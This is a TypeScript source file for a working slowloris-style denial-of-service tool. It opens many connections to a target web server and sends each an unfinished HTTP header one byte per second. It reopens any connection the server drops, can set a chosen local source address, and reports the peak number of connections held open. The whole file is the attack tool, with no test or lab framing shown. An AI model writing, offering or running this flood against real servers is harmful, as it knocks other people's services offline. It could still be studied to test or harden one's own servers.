import { connect, type Socket } from "node:net";

/** A slow-header flood (often called slowloris): connections that never finish asking. */
interface FloodOptions {
  readonly url: string;
  readonly connections: number;
  /** Seconds. */
  readonly duration: number;
  /** Local address to come from. */
  readonly source?: string;
}

/** Keeps so many connections open as the server bears, each with a byte of a header a second; tells the most at a time. */
async function slowHeaders({ url, connections, duration, source }: FloodOptions): Promise<{ most: number }> {
  const { hostname: host, port } = new URL(url);
  const open = new Set<Socket>();
  let most = 0;
  const start = () => {
    const socket = connect({ host, port: Number(port || 80), ...(source ? { localAddress: source } : {}) });
    socket.on("connect", () => {
      open.add(socket);
      most = Math.max(most, open.size);
      socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
    });
    socket.on("error", () => undefined);
    socket.on("close", () => open.delete(socket));
    return socket;
  };
  const sockets = Array.from({ length: connections }, start);
  const drip = setInterval(() => {
    for (const socket of open) socket.write("a");
    // What the server closed is opened again: an attacker does not give up.
    for (const [index, socket] of sockets.entries()) if (socket.destroyed) sockets[index] = start();
  }, 1000);
  await new Promise((resolve) => setTimeout(resolve, duration * 1000));
  clearInterval(drip);
  for (const socket of sockets) socket.destroy();
  return { most };
}

if (require.main === module) {
  slowHeaders(JSON.parse(process.argv[2] ?? "{}") as FloodOptions)
    .then((result) => process.stdout.write(`${JSON.stringify(result)}\n`))
    .catch((error: unknown) => {
      process.stderr.write(`${error instanceof Error ? error.message : String(error)}\n`);
      process.exitCode = 1;
    });
}
